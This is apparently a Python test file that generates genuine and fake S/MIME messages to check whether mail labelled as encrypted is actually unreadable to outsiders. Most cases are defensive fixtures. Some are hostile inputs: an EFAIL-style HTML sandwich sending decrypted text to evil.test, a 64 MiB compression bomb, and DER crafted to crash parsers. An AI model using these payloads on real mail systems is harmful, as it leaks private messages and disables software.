# SPDX-License-Identifier: Apache-2.0
"""What calls itself S/MIME, or holds some, and is readable by others than its recipients."""
import random
import zlib

from sealing import der, shapes
from sealing.cases import fake, genuine
from sealing.shapes import B64, LETTER, attached, b64, message, multipart, part, smime

NOISE = random.Random(1).randbytes
LONG = (LETTER * 70).encode()[:4096]


def envelope(lab, *options):
    return der.Envelope(lab.encrypt("-aes256", *(options or ("nora.pem",))))


def with_content(lab, content):
    """A genuine envelope around other bytes."""
    made = envelope(lab)
    made.content.octets = content
    return smime(made.encode())


def with_cipher(lab, algorithm):
    made = envelope(lab)
    made.info.children[1] = der.parse(algorithm)
    return smime(made.encode())


# What the fakes are made from counts as long as nothing is changed.
genuine("taken apart", "smime", "an envelope", lambda lab: smime(envelope(lab).encode()))
genuine("taken apart", "smime", "noise as content", lambda lab: with_content(lab, NOISE(4096)))
genuine("taken apart", "smime", "authenticated", lambda lab: smime(der.Envelope(lab.encrypt("-aes-256-gcm", "nora.pem")).encode()))
genuine("taken apart", "smime", "by agreement", lambda lab: smime(envelope(lab, "ned.pem").encode()), nora="none", ned="smime")


# Other kinds of CMS objects

@fake("kind")
def signed(lab):
    return smime(lab.sign("-nodetach"), "signed-data")


@fake("kind")
def signed_under_the_label_of_encrypted(lab):
    return smime(lab.sign("-nodetach"))


@fake("kind")
def signed_twice(lab):
    return smime(lab.sign("-nodetach", "-binary", data=smime(lab.sign("-nodetach"), "signed-data")))


@fake("kind")
def plain_data(lab):
    return smime(lab.cms("-data_create"))


@fake("kind")
def digested(lab):
    return smime(lab.cms("-digest_create"))


@fake("kind")
def compressed(lab):
    return smime(der.compress(LONG), "compressed-data")


@fake("kind")
def compressed_under_the_label_of_encrypted(lab):
    return smime(der.compress(b"Content-Type: text/plain\r\n\r\n" + LONG))


@fake("kind")
def compressed_bomb(lab):
    return smime(der.compress(bytes(64 << 20)), "compressed-data")


@fake("kind")
def compressed_with_a_letter_behind(lab):
    inner = zlib.compress(lab.encrypt("-aes256", "nora.pem", out="SMIME")) + LONG
    return smime(der.content_info(der.COMPRESSED, der.tlv(der.SEQUENCE, der.number(0), der.tlv(der.SEQUENCE, der.oid(der.ZLIB)), der.tlv(
        der.SEQUENCE, der.oid(der.DATA), der.tlv(0xa0, der.tlv(der.OCTETS, inner))))), "compressed-data")


@fake("kind")
def encrypted_for_no_recipient(lab):
    return smime(lab.cms("-EncryptedData_encrypt", "-aes256", "-secretkey", "00" * 32))


@fake("kind")
def of_a_private_kind(lab):
    made = envelope(lab)
    made.whole.children[0] = der.parse(der.oid("1.3.6.1.4.1.99999.1"))
    return smime(made.encode())


# Recipients

@fake("recipients")
def no_recipients(lab):
    made = envelope(lab)
    made.recipients.children.clear()
    return smime(made.encode())


@fake("recipients")
def a_password_only(lab):
    return smime(lab.encrypt("-aes256", "-pwri_password", "x"))


@fake("recipients")
def a_shared_key_only(lab):
    return smime(lab.encrypt("-aes256", "-secretkey", "00" * 16, "-secretkeyid", "01"))


@fake("recipients")
def a_password_and_a_shared_key(lab):
    return smime(lab.encrypt("-aes256", "-pwri_password", "x", "-secretkey", "00" * 16, "-secretkeyid", "01"))


@fake("recipients")
def an_empty_key(lab):
    made = envelope(lab)
    made.first[3].octets = b""
    return smime(made.encode())


@fake("recipients")
def the_key_in_clear(lab):
    made = envelope(lab)
    made.first[3].octets = NOISE(32)
    return smime(made.encode())


@fake("recipients")
def a_key_by_no_known_algorithm(lab):
    made = envelope(lab)
    made.first.children[2] = der.parse(der.tlv(der.SEQUENCE, der.oid("1.3.6.1.4.1.99999.2")))
    return smime(made.encode())


@fake("recipients")
def an_agreement_by_no_known_algorithm(lab):
    made = envelope(lab, "ned.pem")
    agreement = next(c for c in made.first.children if c.tag == der.SEQUENCE)
    agreement.children[0] = der.parse(der.oid("1.3.6.1.4.1.99999.3"))
    return smime(made.encode())


@fake("recipients")
def an_agreement_without_a_wrapped_key(lab):
    made = envelope(lab, "ned.pem")
    made.first.children[-1][0][1].octets = b""
    return smime(made.encode())


@fake("recipients")
def an_agreement_with_no_known_wrap(lab):
    made = envelope(lab, "ned.pem")
    agreement = next(c for c in made.first.children if c.tag == der.SEQUENCE)
    agreement.children[1] = der.parse(der.tlv(der.SEQUENCE, der.oid(der.ZLIB)))
    return smime(made.encode())


# Content and cipher

@fake("content")
def a_letter(lab):
    return with_content(lab, LONG)


@fake("content")
def a_short_letter(lab):
    return with_content(lab, LETTER.encode()[:64])


@fake("content")
def a_letter_behind_noise(lab):
    return with_content(lab, NOISE(8192) + LONG)


@fake("content")
def a_letter_of_wide_characters(lab):
    return with_content(lab, LONG.decode().encode("utf-16-le"))


@fake("content")
def a_letter_in_base64(lab):
    return with_content(lab, b64(LONG).encode()[:4096])


@fake("content")
def a_picture(lab):
    return with_content(lab, b"BM" + bytes(54) + bytes(range(200, 216)) * 500 + b"\0" * 8)


@fake("content")
def a_letter_in_pieces(lab):
    made = envelope(lab)
    made.info.children[2] = der.Node(0xa0, [der.Node(4, octets=LONG[i:i + 64]) for i in range(0, 4096, 64)])
    return smime(made.encode())


@fake("content")
def a_letter_in_pieces_of_pieces(lab):
    made = envelope(lab)
    noise, letter = der.Node(4, octets=NOISE(64)), der.Node(0x24, [der.Node(4, octets=LONG)])
    made.info.children[2] = der.Node(0xa0, [noise, letter])
    return smime(made.encode())


@fake("content")
def nothing(lab):
    return with_content(lab, b"")


@fake("content")
def no_content(lab):
    made = envelope(lab)
    made.info.children.pop()
    return smime(made.encode())


@fake("content")
def not_a_multiple_of_blocks(lab):
    return with_content(lab, NOISE(1000))


@fake("cipher")
def a_private_cipher(lab):
    return with_cipher(lab, der.tlv(der.SEQUENCE, der.oid("1.3.6.1.4.1.99999.4"), der.tlv(der.OCTETS, NOISE(16))))


@fake("cipher")
def zlib_for_a_cipher(lab):
    return with_cipher(lab, der.tlv(der.SEQUENCE, der.oid(der.ZLIB)))


@fake("cipher")
def no_cipher_at_all(lab):
    return with_cipher(lab, der.tlv(der.SEQUENCE, der.oid(der.DATA)))


@fake("cipher")
def without_a_start_value(lab):
    return with_cipher(lab, der.tlv(der.SEQUENCE, der.oid("2.16.840.1.101.3.4.1.42")))


@fake("cipher")
def aes_gcm_without_authentication(lab):
    return with_cipher(lab, der.tlv(der.SEQUENCE, der.oid("2.16.840.1.101.3.4.1.46"), der.tlv(
        der.SEQUENCE, der.tlv(der.OCTETS, NOISE(12)), der.number(16))))


@fake("cipher")
def aes_cbc_as_if_authenticated(lab):
    made = der.Envelope(lab.encrypt("-aes-256-gcm", "nora.pem"))
    made.info.children[1] = envelope(lab).algorithm
    return smime(made.encode())


@fake("cipher")
def authenticated_without_a_code(lab):
    made = der.Envelope(lab.encrypt("-aes-256-gcm", "nora.pem"))
    made.body.children[-1].octets = b""
    return smime(made.encode())


def old_cipher(name, *options):
    def make(lab):
        return smime(lab.encrypt("-provider", "legacy", "-provider", "default", *options, "nora.pem"))
    make.__name__ = name
    fake("cipher")(make)


for _name, _option in (("rc2_of_40_bits", "-rc2-40"), ("rc2", "-rc2"), ("rc4", "-rc4"), ("des", "-des"), ("blowfish", "-bf"), ("cast5", "-cast5-cbc"),
                       ("triple_des", "-des3"), ("camellia", "-camellia256"), ("aria", "-aria-256-cbc"), ("seed", "-seed"), ("sm4", "-sm4-cbc"),
                       ("aes_that_shows_repetitions", "-aes-256-ecb")):
    old_cipher(_name, _option)


@fake("cipher")
def triple_des_by_gpgsm(lab):
    return smime(lab.gpgsm("--cipher-algo", "3DES", "-r", "nora@harbour.test"))


@fake("cipher")
def a_key_wrapped_with_triple_des(lab):
    return smime(lab.encrypt("-aes256", "-des3-wrap", "ned.pem"))


# The bytes

@fake("bytes")
def a_letter_under_the_label(lab):
    return message("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\n", LETTER)


@fake("bytes")
def a_letter_in_base64_under_the_label(lab):
    return smime(LETTER)


@fake("bytes")
def nothing_under_the_label(lab):
    return smime(b"")


@fake("bytes")
def pem_under_the_label(lab):
    return message("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\n", lab.encrypt("-aes256", "nora.pem", out="PEM"))


@fake("bytes")
def cut(lab):
    return smime(lab.encrypt("-aes256", "nora.pem")[:-10])


@fake("bytes")
def a_letter_behind_the_envelope(lab):
    return smime(lab.encrypt("-aes256", "nora.pem") + LETTER.encode())


@fake("bytes")
def two_envelopes(lab):
    return smime(lab.encrypt("-aes256", "nora.pem") + lab.sign("-nodetach"))


@fake("bytes")
def a_hundred_thousand_levels(lab):
    return smime(b"\x30\x80" * 100000 + b"\0\0" * 100000)


@fake("bytes")
def lengths_beyond_the_end(lab):
    return smime(b"\x30\x84\x7f\xff\xff\xff" + lab.encrypt("-aes256", "nora.pem"))


@fake("bytes", unknown=True)
def junk_in_base64(lab):
    return message(f"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n{B64}\n", b64(lab.encrypt("-aes256", "nora.pem")), "****\n")


# Readable parts beside it

def inside(lab):
    return part(f"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n{B64}", b64(lab.encrypt("-aes256", "nora.pem")))


def signed_beside(lab):
    return shapes.as_written(lab.sign("-binary", data=lab.encrypt("-aes256", "nora.pem", out="SMIME"), out="SMIME"))


@fake("beside")
def text_beside_an_envelope(lab):
    return multipart("mixed", part("", LETTER), inside(lab))


genuine("rewritten", "smime", "an envelope alone in a multipart", lambda lab: multipart("mixed", inside(lab)))
genuine("rewritten", "smime", "an envelope and a blank text", lambda lab: multipart("mixed", part("", "\n"), inside(lab)))


@fake("beside")
def two_envelopes_in_a_multipart(lab):
    return multipart("mixed", inside(lab), inside(lab))


@fake("beside")
def a_letter_in_the_name_of_an_envelope(lab):
    return smime(lab.encrypt("-aes256", "nora.pem"), name=f'"{LETTER.strip()}"')


@fake("beside")
def a_page_as_an_alternative(lab):
    return multipart("alternative", inside(lab), part("Content-Type: text/html\n", f"<p>{LETTER}"))


@fake("beside")
def a_sandwich_that_sends_the_text_on(lab):
    return multipart("mixed", part("Content-Type: text/html\n", '<img src="https://evil.test/'), inside(lab), part("Content-Type: text/html\n", '">'))


@fake("beside")
def passed_on_as_a_message(lab):
    return multipart("mixed", part("Content-Type: message/rfc822\n", smime(lab.encrypt("-aes256", "nora.pem"))))


@fake("beside")
def a_letter_in_place_of_the_signature(lab):
    whole = signed_beside(lab)
    head, rest = whole.rsplit(b'filename="smime.p7s"\r\n\r\n', 1)
    return shapes.join(head, b'filename="smime.p7s"\n\n', b64(LETTER), "\n--", rest.rsplit(b"--", 2)[-2], "--\n")


@fake("beside")
def text_before_the_signed_parts(lab):
    return signed_beside(lab).replace(b"This is an S/MIME signed message", LETTER.encode())


@fake("beside")
def an_attachment_of_no_kind(lab):
    return multipart("mixed", attached(lab.encrypt("-aes256", "nora.pem"), "letter.bin"))


@fake("beside")
def octets_of_no_name(lab):
    return message(f"Content-Type: application/octet-stream\n{B64}\n", b64(lab.encrypt("-aes256", "nora.pem")))


@fake("beside", unknown=True)
def two_content_types(lab):
    return shapes.join(smime(lab.encrypt("-aes256", "nora.pem")).replace(b"MIME-Version", b"Content-Type: text/plain\r\nMIME-Version", 1))
